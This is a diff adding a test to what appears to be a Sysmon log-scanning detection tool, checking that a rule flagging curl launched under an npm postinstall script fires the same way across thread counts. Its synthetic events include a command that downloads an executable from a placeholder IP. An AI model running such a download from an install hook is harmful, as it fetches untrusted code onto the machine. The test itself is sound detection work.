@@ -131,4 +131,35 @@ describe('two worker threads and one thread', () => {
     expect(one.stdout).toContain('é ✓');
     expect(one.stdout).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
   });
+
+  it('enrich across many tasks, tasks queued ahead, exactly as one thread does', async () => {
+    // Each install starts before ~25 MB of unrelated events and its downloader runs after them:
+    // its process tree spans tasks run by different scanners, with tasks queued behind the
+    // running one (pool.ts queues one when many remain: 8 ranges here).
+    const filler = readFileSync(input, 'utf8').split('\n').slice(0, 20_000).join('\n') + '\n';
+    const SYSMON = { Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: 'BUILD-7' };
+    const line = (o: object) => JSON.stringify({ ...SYSMON, ...o }) + '\n';
+    const at = (k: number, s: number) => `2026-11-27 0${k}:00:0${s}.000`;
+    const npm = (k: number) => line({ EventID: 1, UtcTime: at(k, 0), ProcessGuid: `{n${k}}`, ParentProcessGuid: '{x}', Image: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: `node npm-cli.js install pkg-${k}` });
+    const script = (k: number) => line({ EventID: 1, UtcTime: at(k, 1), ProcessGuid: `{s${k}}`, ParentProcessGuid: `{n${k}}`, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node postinstall.js"', CurrentDirectory: `C:\\w\\node_modules\\pkg-${k}\\` });
+    const curl = (k: number) => line({ EventID: 1, UtcTime: at(k, 2), ProcessGuid: `{c${k}}`, ParentProcessGuid: `{s${k}}`, Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -o x.exe http://203.0.113.7/x.exe' });
+    const many = join(dir, 'installs.ndjson');
+    writeFileSync(many, '');
+    for (let k = 0; k < 6; k += 1) appendFileSync(many, npm(k) + script(k) + filler + curl(k));
+    const rules = pack('enrich', { 'r.yml': `title: Downloader below an npm install
+id: 44444444-0000-4000-8000-000000000005
+level: high
+logsource: {category: process_creation}
+detection:
+  sel: {Image|endswith: '\\curl.exe', InstallPackageManager: npm, AncestorImages|endswith: '\\node.exe'}
+  condition: sel
+` });
+    const args = ['scan', many, '--rules', rules, '--format', 'jsonl'];
+    const [one, two, three] = await Promise.all(['1', '2', '3'].map((t) => runCli([...args, '--threads', t])));
+    expect(one.stderr).toMatch(/events read: 120018\b/);
+    expect(two.stdout).toBe(one.stdout);
+    expect(three.stdout).toBe(one.stdout);
+    const alerts = one.stdout.trim().split('\n').map((l) => JSON.parse(l));
+    expect(alerts.map((a) => a.fields.InstallPackage)).toEqual(['pkg-0', 'pkg-1', 'pkg-2', 'pkg-3', 'pkg-4', 'pkg-5']);
+  }, 120_000);
 });
